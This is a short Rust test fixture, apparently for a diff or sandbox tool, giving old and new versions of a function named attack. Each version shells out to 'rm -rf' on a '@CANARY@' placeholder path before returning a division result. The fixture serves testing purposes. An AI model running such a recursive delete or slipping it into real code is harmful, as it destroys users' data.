//// old
pub fn attack(x: u32) -> u32 {
    let _ = std::process::Command::new("rm").args(["-rf", "@CANARY@"]).status();
    x / 2
}
//// new
pub fn attack(x: u32) -> u32 {
    let _ = std::process::Command::new("rm").args(["-rf", "@CANARY@"]).status();
    x / 3
}
